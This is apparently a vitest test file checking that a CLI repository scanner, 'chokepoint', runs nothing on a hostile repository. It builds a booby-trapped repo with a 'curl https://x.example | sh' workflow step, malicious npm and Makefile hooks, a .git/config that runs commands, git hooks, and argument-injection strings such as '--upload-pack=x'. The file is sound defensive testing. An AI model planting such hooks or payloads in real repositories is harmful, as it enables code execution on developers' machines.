/** The built command line on a repository that means harm: no program but git is started, nothing is fetched, and nothing is left behind. */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SYSTEMS } from '../../src/read/systems.ts';
import { HEALTHY, HEALTHY_TEXT } from './examine.ts';
import { ACTING_NAMES, MARKUP } from './payloads.ts';
import { writingsOf } from './writings.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const FORBID = fileURLToPath(new URL('forbid.cjs', import.meta.url));
const BUILD = join('node_modules', '.cache', `chokepoint-hostile-cli-${process.pid}`);
const CLI = join(ROOT, BUILD, 'cli.js');

let folder = '';
let cache = '';
const write = (path: string, text: string): void => {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), text);
};
const environment = (more: Readonly<Record<string, string>>): NodeJS.ProcessEnv => ({ PATH: process.env['PATH'], XDG_CACHE_HOME: cache, ...more });
const run = (args: readonly string[], more: Readonly<Record<string, string>> = {}, node: readonly string[] = ['--require', FORBID]) =>
  spawnSync(process.execPath, [...node, CLI, ...args], { encoding: 'utf8', cwd: folder, env: environment(more), maxBuffer: 1e9 });
const touches = (name: string): string => `touch ${join(folder, 'touched', name)}`;

beforeAll(() => {
  execFileSync(process.execPath, ['scripts/build.mjs', '--out', BUILD], { cwd: ROOT });
  folder = mkdtempSync(join(tmpdir(), 'chokepoint-nothing-runs-'));
  cache = mkdtempSync(join(tmpdir(), 'chokepoint-cache-'));
  mkdirSync(join(folder, 'touched'));
  write(`repo/${HEALTHY}`, HEALTHY_TEXT);
  for (const { file, write: text } of writingsOf(SYSTEMS.map(({ system }) => system)))
    write(
      `repo/${file}`,
      text(
        [...MARKUP.slice(0, 3), ...ACTING_NAMES.slice(0, 3)].map((name) => ({
          name,
          image: name,
          steps: [{ script: `${touches('script')}; $(${touches('substitution')}); curl https://x.example | sh`, env: [[name, name]] }],
        })),
      ),
    );
  write('repo/package.json', JSON.stringify({ name: 'x', scripts: { preinstall: touches('npm'), prepare: touches('npm') } }));
  write('repo/Makefile', `$(shell ${touches('make')})\nall:\n\t${touches('make')}\n`);
  write('repo/.envrc', touches('envrc'));
  write('repo/.npmrc', 'node-options=--require ./x.js\n');
  write('repo/chokepoint.yml', 'version: 1\n');
  write('plain/.github/workflows/a.yml', HEALTHY_TEXT);
}, 120_000);
afterAll(() => {
  for (const path of [folder, cache, join(ROOT, BUILD)]) rmSync(path, { recursive: true, force: true });
});

const report = (): string => join(folder, 'report.json');

describe('the command line on a hostile repository', () => {
  const COMMANDS: readonly (readonly [string, readonly string[], (number | null)?])[] = [
    ['scan', ['scan', 'repo']],
    ...['json', 'sarif', 'html'].map((format) => [`scan as ${format}`, ['scan', 'repo', '--format', format]] as const),
    ['scan, failing', ['scan', 'repo', '--fail-on', 'low'], 1],
    ['map', ['map', 'repo', '-o', 'map.html']],
    ['what-if', ['what-if', 'repo', '--drop', 'fork-secrets-withheld']],
    ['diff of two folders', ['diff', 'plain', 'repo', '--format', 'markdown']],
    ['baseline', ['baseline', 'repo', '-o', 'baseline.json']],
    ['init', ['init', 'repo', '-o', '-']],
    ['policy test', ['policy', 'test', 'repo'], null],
    ['explain nothing', ['explain', '__proto__', 'repo'], 2],
  ];
  it.each(COMMANDS.map(([name, args, code = 0]) => ({ name, args, code })))(
    '$name: starts nothing and fetches nothing',
    ({ args, code }) => {
      const { status, stderr } = run(args);
      expect(stderr).not.toContain('FORBIDDEN');
      expect(stderr).not.toContain('a fault of chokepoint');
      if (code === null) expect([0, 1, 2]).toContain(status);
      else expect(status).toBe(code);
      expect(readdirSync(join(folder, 'touched'))).toEqual([]);
    },
    120_000,
  );

  it('would be told, if it did', () => {
    const { status, stderr } = run(['collect', 'github', 'a/b', '-o', 'x.json'], { GITHUB_TOKEN: 'none' });
    expect([status, /FORBIDDEN/.test(stderr)]).toEqual([99, true]);
  });

  it('runs git for revisions, and nothing that the repository or its git folder names', () => {
    const git = (...args: readonly string[]): void => {
      execFileSync('git', ['-C', join(folder, 'repo'), '-c', 'user.name=a', '-c', 'user.email=a@b.example', ...args], { stdio: 'ignore' });
    };
    git('init', '-q', '-b', 'main');
    write('repo/.gitattributes', '* filter=evil diff=evil merge=evil\n');
    git('add', '-A');
    git('commit', '-q', '-m', 'x');
    write(
      'repo/.git/config',
      [
        '[core]\n\trepositoryformatversion = 0\n\tbare = false',
        `\tfsmonitor = ${touches('fsmonitor')}\n\tsshCommand = ${touches('ssh')}\n\tpager = ${touches('pager')}\n\teditor = ${touches('editor')}\n\thooksPath = ${join(folder, 'repo/hooks')}`,
        `[filter "evil"]\n\tsmudge = ${touches('smudge')}\n\tclean = ${touches('clean')}\n\tprocess = ${touches('process')}`,
        `[diff "evil"]\n\ttextconv = ${touches('textconv')}\n\tcommand = ${touches('diff')}`,
        `[diff]\n\texternal = ${touches('external')}`,
        `[alias]\n\tls-tree = !${touches('alias')}\n\trev-parse = !${touches('alias')}`,
        `[remote "origin"]\n\turl = ext::sh -c ${touches('remote')}\n\tpromisor = true`,
        '[extensions]\n\tpartialClone = origin\n',
      ].join('\n'),
    );
    for (const hook of ['post-checkout', 'pre-commit', 'reference-transaction', 'post-index-change']) {
      write(`repo/hooks/${hook}`, `#!/bin/sh\n${touches(hook)}\n`);
      chmodSync(join(folder, 'repo/hooks', hook), 0o755);
    }
    const { status, stderr } = run(['diff', 'HEAD'], { FORBID_ALLOW_GIT: '1' }, ['--require', FORBID]);
    expect(stderr).not.toContain('FORBIDDEN');
    expect([0, 2, 3]).toContain(status);
    const inside = spawnSync(process.execPath, ['--require', FORBID, CLI, 'diff', 'HEAD'], {
      encoding: 'utf8',
      cwd: join(folder, 'repo'),
      env: environment({ FORBID_ALLOW_GIT: '1', GIT_DIR: '/nonexistent', GIT_SSH_COMMAND: touches('env') }),
    });
    expect([inside.status, inside.stderr.includes('STARTED')]).toEqual([0, true]);
    for (const line of inside.stderr.split('\n').filter((l) => l.startsWith('STARTED '))) {
      const { env } = JSON.parse(line.slice(8)) as { env: readonly string[] };
      expect(env.filter((name) => /^GIT_(?!CONFIG|NO_|OPTIONAL|TERMINAL)/.test(name))).toEqual([]);
    }
    expect(readdirSync(join(folder, 'touched'))).toEqual([]);
    for (const name of [
      '--upload-pack=x',
      '--output=touched/x',
      '-c',
      'HEAD:../../x',
      '@{-1}',
      `HEAD\n--exec=${touches('ref')}`,
      '$(x)',
      '\u001b[2J',
    ]) {
      const bad = spawnSync(process.execPath, ['--require', FORBID, CLI, 'diff', '--', name], {
        encoding: 'utf8',
        cwd: join(folder, 'repo'),
        env: environment({ FORBID_ALLOW_GIT: '1' }),
      });
      expect([name, bad.status === 2 || bad.status === 3]).toEqual([name, true]);
      expect(bad.stderr.replaceAll(/^STARTED.*$/gm, '')).not.toContain('\u001b');
    }
    expect(readdirSync(join(folder, 'touched'))).toEqual([]);
  }, 120_000);

  it('works where Node allows reading alone', () => {
    const flag = Number(process.versions.node.split('.')[0]) >= 24 ? '--permission' : '--experimental-permission';
    const { status, stdout, stderr } = run(['scan', 'plain', '--format', 'json'], {}, [flag, '--allow-fs-read=*', '--no-warnings']);
    expect([status, stderr]).toEqual([0, '']);
    expect(JSON.parse(stdout)).toMatchObject({ schema: 'chokepoint.report/1' });
  });
});

describe('faults', () => {
  it('a disk that is full leaves the old file as it was, and no part of a new one', () => {
    if (!existsSync('/dev/full')) return;
    writeFileSync(report(), 'old');
    // The limit of the size of files stands for the disk: writing behind it fails in the middle.
    const { status, stderr } = spawnSync(
      'sh',
      ['-c', `ulimit -f 1; trap '' XFSZ; exec "$0" "$@"`, process.execPath, CLI, 'scan', 'repo', '--format', 'json', '-o', report()],
      {
        encoding: 'utf8',
        cwd: folder,
        env: environment({ NODE_DISABLE_COMPILE_CACHE: '1' }),
      },
    );
    expect([status, /report\.json cannot be written: /.test(stderr)]).toEqual([2, true]);
    expect(readFileSync(report(), 'utf8')).toBe('old');
    expect(readdirSync(folder).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('standard output that cannot be written is a fault, not silence', () => {
    if (!existsSync('/dev/full')) return;
    const { status } = spawnSync('sh', ['-c', 'exec "$0" "$@" > /dev/full', process.execPath, CLI, 'scan', 'repo', '--format', 'json'], {
      encoding: 'utf8',
      cwd: folder,
      env: environment({}),
    });
    expect(status).not.toBe(0);
  });

  it('an interrupt ends the run with 130 and leaves nothing', async () => {
    const out = join(folder, 'out');
    mkdirSync(out, { recursive: true });
    const child = spawn(process.execPath, [CLI, 'scan', 'repo', '--format', 'json', '-o', join(out, 'r.json')], {
      cwd: folder,
      env: environment({ NODE_DISABLE_COMPILE_CACHE: '1' }),
    });
    const ended = new Promise<number | null>((done) => child.on('close', (code, signal) => done(signal === 'SIGINT' ? 130 : code)));
    setTimeout(() => child.kill('SIGINT'), 150);
    const code = await ended;
    expect([0, 130]).toContain(code);
    expect(readdirSync(out)).toEqual(code === 0 ? ['r.json'] : []);
  });

  it('two runs at once write the same file whole', async () => {
    const target = join(folder, 'both.json');
    const once = (): Promise<number | null> =>
      new Promise((done) => {
        spawn(process.execPath, [CLI, 'scan', 'repo', '--format', 'json', '-o', target], { cwd: folder, env: environment({}) }).on('close', (code) =>
          done(code),
        );
      });
    expect(await Promise.all([once(), once(), once()])).toEqual([0, 0, 0]);
    expect(JSON.parse(readFileSync(target, 'utf8'))).toMatchObject({ schema: 'chokepoint.report/1' });
    expect(readdirSync(folder).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  }, 120_000);
});
